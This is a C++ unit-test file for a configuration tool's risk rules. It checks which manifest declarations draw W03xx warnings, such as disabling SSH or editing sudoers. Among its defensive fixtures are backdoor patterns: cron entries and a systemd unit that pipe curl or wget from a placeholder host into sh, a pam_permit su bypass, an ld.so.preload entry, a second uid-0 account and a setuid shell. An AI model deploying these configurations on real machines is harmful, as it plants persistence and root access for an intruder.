// The risky-change rules: which declarations warn (W03xx), which do not, and
// that `allow_risky = true` only marks them as requested (W0300).
#include "resources/risk_rules.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "lang/load.h"
#include "stdlib/stdlib.h"

namespace twin::resources {
namespace {

constexpr char kApproveHint[] =
    "if it is intended, approve it on the machine: `twin apply` asks, or `twin apply "
            "--approve-risky FINGERPRINT` with the fingerprint `twin plan` prints; `allow_risky = true` "
            "only marks it as requested";


struct Case {
  const char* name;
  const char* manifest;
  const char* code;  // "" when no warning is expected
  const char* message;
  bool changed = false;  // judged as a known change (a plan's step, lint --base)
};

const Case kCases[] = {
    // Removing a package is an ordinary change; the package provider flags
    // the removal of an Essential or required one on the plan (W0301).
    {"PackageAbsent", "package \"vim\" {\n  ensure = \"absent\"\n}\n", "", ""},
    {"PackagePurged", "package \"openssh-server\" {\n  ensure = \"purged\"\n}\n", "", ""},
    {"PackagePresent", "package \"vim\" {\n  ensure = \"present\"\n}\n", "", ""},
    {"UnlistedPackages", "packages \"unlisted\" {\n  ensure = \"absent\"\n}\n", "", ""},
    {"PackageWithoutEnsure", "package \"vim\" {\n}\n", "", ""},
    {"SshDisabled", "service \"ssh\" {\n  enabled = false\n}\n", "W0302",
     "risky change: service[\"ssh\"] is disabled (enabled = false)"},
    {"SshdStopped", "service \"sshd.service\" {\n  running = false\n}\n", "W0302",
     "risky change: service[\"sshd.service\"] is stopped (running = false)"},
    {"SshRunning", "service \"ssh\" {\n  enabled = true\n  running = true\n}\n", "", ""},
    {"OtherServiceStopped", "service \"nginx\" {\n  running = false\n}\n", "", ""},
    {"Sudoers", "file \"/etc/sudoers\" {\n  content = \"\"\n}\n", "W0303",
     "risky change: file[\"/etc/sudoers\"] manages sudo's rules"},
    {"SudoersDropIn", "file \"/etc/sudoers.d/ops\" {\n  content = \"\"\n}\n", "W0303",
     "risky change: file[\"/etc/sudoers.d/ops\"] manages sudo's rules"},
    {"SudoersLookalike", "file \"/etc/sudoers.dist\" {\n  content = \"\"\n}\n", "", ""},
    {"Shadow", "file \"/etc/shadow\" {\n  mode = \"0640\"\n}\n", "W0304",
     "risky change: file[\"/etc/shadow\"] manages an account database"},
    {"Passwd", "file \"/etc/passwd\" {\n  content = \"\"\n}\n", "W0304",
     "risky change: file[\"/etc/passwd\"] manages an account database"},
    {"Gshadow", "file \"/etc/gshadow\" {\n  content = \"\"\n}\n", "W0304",
     "risky change: file[\"/etc/gshadow\"] manages an account database"},
    {"SshdConfig", "file \"/etc/ssh/sshd_config\" {\n  content = \"\"\n}\n", "W0305",
     "risky change: file[\"/etc/ssh/sshd_config\"] manages the SSH server's configuration"},
    {"SshdConfigDropIn", "file \"/etc/ssh/sshd_config.d/10-port.conf\" {\n}\n", "W0305",
     "risky change: file[\"/etc/ssh/sshd_config.d/10-port.conf\"] manages the SSH server's "
     "configuration"},
    {"SshClientConfig", "file \"/etc/ssh/ssh_config\" {\n}\n", "", ""},
    {"Fstab", "file \"/etc/fstab\" {\n  content = \"\"\n}\n", "W0306",
     "risky change: file[\"/etc/fstab\"] manages what the machine mounts at boot"},
    {"BootFile", "file \"/boot/grub/grub.cfg\" {\n  ensure = \"absent\"\n}\n", "W0306",
     "risky change: file[\"/boot/grub/grub.cfg\"] manages boot files"},
    {"BootItself", "file \"/boot\" {\n  ensure = \"directory\"\n}\n", "W0306",
     "risky change: file[\"/boot\"] manages boot files"},
    {"Bootstrap", "file \"/bootstrap\" {\n}\n", "", ""},
    {"Motd", "file \"/etc/motd\" {\n  content = \"\"\n}\n", "", ""},
    // The attacks a trial wrote to evade the first rules (issue #14), each
    // flagged, and the ordinary changes next to them, each not.
    {"SshMasked", "service \"ssh\" {\n  masked = true\n}\n", "W0302",
     "risky change: service[\"ssh\"] is masked (masked = true)"},
    {"SshSocketDisabled", "service \"ssh.socket\" {\n  enabled = false\n}\n", "W0302",
     "risky change: service[\"ssh.socket\"] is disabled (enabled = false)"},
    {"SshMaskedByLink",
     "file \"/etc/systemd/system/ssh.service\" {\n  ensure = \"link\"\n  target = \"/dev/null\"\n}\n",
     "W0302", "risky change: file[\"/etc/systemd/system/ssh.service\"] overrides or masks the SSH "
              "server's unit"},
    {"SshDropIn",
     "file \"/etc/systemd/system/ssh.service.d/override.conf\" {\n  content = \"[Service]\\nExecStart=\\nExecStart=/bin/false\\n\"\n}\n",
     "W0302", "risky change: file[\"/etc/systemd/system/ssh.service.d/override.conf\"] overrides or "
              "masks the SSH server's unit"},
    {"AnyUnitMasked",
     "file \"/etc/systemd/system/cron.service\" {\n  ensure = \"link\"\n  target = \"/dev/null\"\n}\n",
     "W0302", "risky change: file[\"/etc/systemd/system/cron.service\"] masks a unit (target = "
              "\"/dev/null\")"},
    {"RootAuthorizedKeys", "file \"/root/.ssh/authorized_keys\" {\n  content = \"ssh-ed25519 AAAA x\\n\"\n}\n",
     "W0307", "risky change: file[\"/root/.ssh/authorized_keys\"] manages SSH keys that may log in"},
    {"UserAuthorizedKeys2", "file \"/home/bob/.ssh/authorized_keys2\" {\n  content = \"\"\n}\n",
     "W0307", "risky change: file[\"/home/bob/.ssh/authorized_keys2\"] manages SSH keys that may log in"},
    {"PamPermit", "file \"/etc/pam.d/su\" {\n  content = \"auth sufficient pam_permit.so\\n\"\n}\n",
     "W0308", "risky change: file[\"/etc/pam.d/su\"] manages PAM, which decides who may log in"},
    {"Polkit", "file \"/etc/polkit-1/rules.d/00-all.rules\" {\n  content = \"\"\n}\n", "W0308",
     "risky change: file[\"/etc/polkit-1/rules.d/00-all.rules\"] manages polkit, which grants "
     "privileged actions"},
    {"LdPreload", "file \"/etc/ld.so.preload\" {\n  content = \"/tmp/x.so\\n\"\n}\n", "W0308",
     "risky change: file[\"/etc/ld.so.preload\"] preloads a library into every program"},
    {"Nsswitch", "file \"/etc/nsswitch.conf\" {\n  content = \"\"\n}\n", "W0308",
     "risky change: file[\"/etc/nsswitch.conf\"] changes where accounts are looked up"},
    {"PasswdBackup", "file \"/etc/passwd-\" {\n  content = \"\"\n}\n", "W0304",
     "risky change: file[\"/etc/passwd-\"] manages an account database"},
    {"Subuid", "file \"/etc/subuid\" {\n  content = \"\"\n}\n", "W0304",
     "risky change: file[\"/etc/subuid\"] manages subordinate ids"},
    {"Setuid", "file \"/usr/local/bin/sh\" {\n  source = \"files/sh\"\n  mode = \"4755\"\n}\n", "W0309",
     "risky change: file[\"/usr/local/bin/sh\"] is setuid or setgid (mode = \"4755\")"},
    {"Crypttab", "file \"/etc/crypttab\" {\n  content = \"\"\n}\n", "W0306",
     "risky change: file[\"/etc/crypttab\"] manages the encrypted disks opened at boot"},
    {"GrubDefaults", "file \"/etc/default/grub\" {\n  content = \"\"\n}\n", "W0306",
     "risky change: file[\"/etc/default/grub\"] manages the boot loader's settings"},
    {"CronFetchAndRun",
     "file \"/etc/cron.d/update\" {\n  content = \"* * * * * root curl -s http://x | sh\\n\"\n}\n",
     "W0310", "risky change: file[\"/etc/cron.d/update\"] runs fetched or hidden code from cron "
              "(its content has \"curl \")"},
    {"OrdinaryCron",
     "file \"/etc/cron.d/backup\" {\n  content = \"0 3 * * * root /usr/local/bin/backup\\n\"\n}\n",
     "", ""},
    {"RootCrontabFetchAndRun",
     "crontab \"root\" {\n  content = \"@reboot wget -qO- http://x/p | bash\\n\"\n}\n", "W0310",
     "risky change: crontab[\"root\"] runs fetched or hidden code from cron (its content has "
     "\"wget \")"},
    {"OrdinaryCrontab", "crontab \"alice\" {\n  content = \"@daily /usr/bin/backup\\n\"\n}\n", "", ""},
    {"RcLocal", "file \"/etc/rc.local\" {\n  content = \"\"\n}\n", "W0310",
     "risky change: file[\"/etc/rc.local\"] runs commands at every boot"},
    {"BackdoorUnit",
     "file \"/etc/systemd/system/updater.service\" {\n  content = \"[Service]\\nExecStart=/bin/sh -c 'wget -qO- http://x | sh'\\n\"\n}\n",
     "W0310", "risky change: file[\"/etc/systemd/system/updater.service\"] makes a unit run fetched "
              "or hidden code (its content has \"wget \")"},
    {"OrdinaryUnit",
     "file \"/etc/systemd/system/app.service\" {\n  content = \"[Service]\\nExecStart=/usr/bin/app\\n\"\n}\n",
     "", ""},
    {"AptTrustedYes",
     "file \"/etc/apt/sources.list.d/x.list\" {\n  content = \"deb [trusted=yes] http://x/ stable main\\n\"\n}\n",
     "W0311", "risky change: file[\"/etc/apt/sources.list.d/x.list\"] trusts packages nobody signed "
              "(its content has \"trusted=yes\")"},
    {"OrdinaryAptSource",
     "file \"/etc/apt/sources.list.d/x.list\" {\n  content = \"deb http://deb.debian.org/debian bookworm main\\n\"\n}\n",
     "", ""},
    {"AptKeyring", "file \"/etc/apt/trusted.gpg.d/x.asc\" {\n  content = \"\"\n}\n", "W0311",
     "risky change: file[\"/etc/apt/trusted.gpg.d/x.asc\"] changes the keys apt trusts"},
    // Accounts: root's power by id, group or no password.
    {"SecondRoot", "user \"toor\" {\n  uid = 0\n}\n", "W0313",
     "risky change: user[\"toor\"] gives an account root's user id (uid = 0)"},
    {"RootItself", "user \"root\" {\n  uid = 0\n  group = \"root\"\n}\n", "", ""},
    {"RootGroupId", "group \"wheel2\" {\n  gid = 0\n}\n", "W0313",
     "risky change: group[\"wheel2\"] gives a group root's group id (gid = 0)"},
    {"EmptyPassword", "user \"kiosk\" {\n  password = \"empty\"\n}\n", "W0313",
     "risky change: user[\"kiosk\"] lets the account log in without a password (password = "
     "\"empty\")"},
    {"LockedPassword", "user \"kiosk\" {\n  password = \"locked\"\n}\n", "", ""},
    {"PrimaryGroupSudo", "user \"mallory\" {\n  group = \"sudo\"\n}\n", "W0313",
     "risky change: user[\"mallory\"] gives the account a privileged primary group (group = "
     "\"sudo\")"},
    {"JoinsSudo", "user \"mallory\" {\n  groups = [\"users\", \"sudo\"]\n}\n", "W0313",
     "risky change: user[\"mallory\"] makes the account a member of a privileged group (groups "
     "lists \"sudo\")", true},
    {"JoinsAdm", "user \"mallory\" {\n  groups = [\"adm\"]\n}\n", "W0313",
     "risky change: user[\"mallory\"] makes the account a member of a privileged group (groups "
     "lists \"adm\")", true},
    // A snapshot records the machine's admins: no change, so not judged.
    {"RecordedAdmin", "user \"alice\" {\n  groups = [\"sudo\"]\n}\n", "", ""},
    {"OrdinaryGroups", "user \"bob\" {\n  groups = [\"users\", \"audio\"]\n}\n", "", "", true},
    {"AptPinning", "file \"/etc/apt/preferences.d/pin\" {\n  content = \"\"\n}\n", "W0311",
     "risky change: file[\"/etc/apt/preferences.d/pin\"] pins which versions apt installs (a pin "
     "above 1000 downgrades)"},
    // What a snapshot records to give back what was there is no new risk.
    {"PamPackageDefault", "file \"/etc/pam.d/su\" { package_default = \"util-linux\" }\n", "", ""},
    {"SecretKept",
     "file \"/etc/security/opasswd\" {\n  machine_secret = \"0123456789abcdef0123456789abcdef\"\n  mode = \"0600\"\n}\n",
     "", ""},
    // Lint leaves a snapshot's own record of a file to the plan.
    {"SnapshotRecord",
     "file \"/etc/security/namespace.init\" {\n  source = \"filesystem/etc/security/namespace.init\"\n  mode = \"0755\"\n}\n",
     "", ""},
    {"SourceElsewhere",
     "file \"/etc/sudoers.d/ops\" {\n  source = \"files/ops\"\n}\n", "W0303",
     "risky change: file[\"/etc/sudoers.d/ops\"] manages sudo's rules"},
    {"AppConfig", "file \"/etc/myapp/app.conf\" {\n  content = \"port = 80\\n\"\n  mode = \"0640\"\n}\n", "", ""},
    {"ServiceEnabled", "service \"nginx\" {\n  enabled = true\n}\n", "", ""},
    // allow_risky is a request, not an approval: still flagged, as W0300.
    {"RequestedSudoers",
     "file \"/etc/sudoers.d/ops\" {\n  content = \"\"\n  allow_risky = true\n}\n", "W0300",
     "risky change: file[\"/etc/sudoers.d/ops\"] manages sudo's rules [W0303, requested with "
     "allow_risky]"},
    {"AllowedPackageRemoval",
     "package \"vim\" {\n  ensure = \"absent\"\n  allow_risky = true\n}\n", "", ""},
    {"NotAllowedWhenFalse",
     "service \"ssh\" {\n  running = false\n  allow_risky = false\n}\n", "W0302",
     "risky change: service[\"ssh\"] is stopped (running = false)"},
};

class RiskCases : public ::testing::TestWithParam<Case> {};

TEST_P(RiskCases, WarnAsThePolicySays) {
  const Case& c = GetParam();
  lang::DiagnosticSink sink;
  auto resources = lang::load_sources({lang::make_source("state/a.twin", c.manifest)}, sink);
  ASSERT_FALSE(sink.has_errors());
  ASSERT_EQ(resources.size(), 1u);
  for (const auto& resource : resources) judge_risk(resource, sink, c.changed);
  if (std::string(c.code).empty()) {
    EXPECT_TRUE(sink.empty()) << sink.all().front().message;
    return;
  }
  ASSERT_EQ(sink.all().size(), 1u);
  const lang::Diagnostic& d = sink.all()[0];
  EXPECT_EQ(d.severity, lang::Severity::kWarning);
  EXPECT_EQ(d.code, c.code);
  EXPECT_EQ(d.message, c.message);
  EXPECT_EQ(d.hint, kApproveHint);
  EXPECT_EQ(d.span.begin, resources[0].title_span.begin);
  EXPECT_EQ(d.span.end, resources[0].title_span.end);
  ASSERT_EQ(d.notes.size(), 1u);
}

INSTANTIATE_TEST_SUITE_P(Table, RiskCases, ::testing::ValuesIn(kCases),
                         [](const auto& info) { return std::string(info.param.name); });

TEST(Risk, OneWarningPerResourceRenderedLikeAnyDiagnostic) {
  lang::DiagnosticSink sink;
  auto resources = lang::load_sources(
      {lang::make_source("state/a.twin",
                         "service \"ssh\" {\n  enabled = false\n  running = false\n}\n")},
      sink);
  for (const auto& resource : resources) judge_risk(resource, sink);
  ASSERT_EQ(sink.all().size(), 1u);
  EXPECT_EQ(lang::render_text(sink.all()[0]),
            "state/a.twin:1:9: warning[W0302]: risky change: service[\"ssh\"] is disabled "
            "(enabled = false)\n"
            "    1 | service \"ssh\" {\n"
            "      |         ^~~~~\n"
            "note: a mistake here can lock everyone out of the machine\n"
            "help: " + std::string(kApproveHint) + "\n");
  EXPECT_EQ(sink.warning_count(), 1u);
  EXPECT_FALSE(sink.has_errors());
}

// Membership of a privileged group is judged on a change of `groups`
// alone: an admin recorded by a snapshot whose shell changes is no new
// risk; the step that adds the group, or a new account, is.
TEST(Risk, GroupMembershipIsJudgedOnlyWhereTheGroupsChange) {
  lang::DiagnosticSink loaded;
  auto now = lang::load_sources(
      {lang::make_source("state/a.twin",
                         "user \"alice\" {\n  groups = [\"sudo\"]\n  shell = \"/bin/zsh\"\n}\n")},
      loaded);
  auto was = lang::load_sources(
      {lang::make_source("state/a.twin",
                         "user \"alice\" {\n  groups = [\"sudo\"]\n  shell = \"/bin/sh\"\n}\n")},
      loaded);
  auto joined = lang::load_sources(
      {lang::make_source("state/a.twin", "user \"alice\" {\n  groups = [\"users\"]\n}\n")},
      loaded);
  ASSERT_FALSE(loaded.has_errors());
  auto findings = [&](const engine::RiskScope& scope) {
    lang::DiagnosticSink sink;
    judge_risk(risk_rules(), now[0], scope, sink);
    return sink.all().size();
  };
  engine::Step shell_only;
  shell_only.changes.push_back({engine::Action::kReplace, "shell /bin/sh → /bin/zsh", {}, {}, {}, {}});
  shell_only.changes.back().attribute = "shell";
  EXPECT_EQ(findings({&shell_only, true}), 0u);
  engine::Step groups_too = shell_only;
  groups_too.changes.push_back({engine::Action::kReplace, "groups users → sudo", {}, {}, {}, {}});
  groups_too.changes.back().attribute = "groups";
  EXPECT_EQ(findings({&groups_too, true}), 1u);
  engine::Step created;
  created.changes.push_back({engine::Action::kCreate, "groups sudo", {}, {}, {}, {}});
  EXPECT_EQ(findings({&created, true}), 1u);
  // `lint --base`: against the resource as it was there.
  EXPECT_EQ(findings({nullptr, true, &was[0]}), 0u);
  EXPECT_EQ(findings({nullptr, true, &joined[0]}), 1u);
  EXPECT_EQ(findings({nullptr, true, nullptr}), 1u);  // new since the base
  EXPECT_EQ(findings({nullptr, false}), 0u);          // plain lint: a record, no change
}

TEST(Risk, EveryRuleHasAWarningCodeAndText) {
  for (const RiskRule& rule : risk_rules()) {
    EXPECT_TRUE(rule.code.starts_with("W03")) << rule.code;
    EXPECT_FALSE(rule.type.empty());
    EXPECT_FALSE(rule.change.empty());
    EXPECT_FALSE(rule.danger.empty());
    EXPECT_EQ(rule.attribute.empty(), rule.values.empty()) << rule.code;
  }
  EXPECT_GT(risk_rules().size(), 50u) << "the shipped file parsed";
}

// The rules compiled in at build time are the ones the embedded YAML says,
// read the way a site's file is read.
TEST(Risk, TheCompiledRulesAreTheShippedFileParsed) {
  auto parsed = parse_risk_rules(stdlib::risk_rules(), "twin");
  ASSERT_TRUE(parsed.ok()) << parsed.error().text();
  ASSERT_EQ(risk_rules().size(), parsed->size());
  for (std::size_t i = 0; i < parsed->size(); ++i)
    EXPECT_EQ(risk_rules()[i], (*parsed)[i]) << "rule " << i << " " << (*parsed)[i].code << " "
                                              << (*parsed)[i].path;
  bool has_mode_bits = false, has_content = false;
  for (const RiskRule& rule : risk_rules()) {
    has_mode_bits |= rule.mode_bits != 0;
    has_content |= !rule.content.empty();
  }
  EXPECT_TRUE(has_mode_bits && has_content) << "every kind of field made it through";
}

}  // namespace
}  // namespace twin::resources
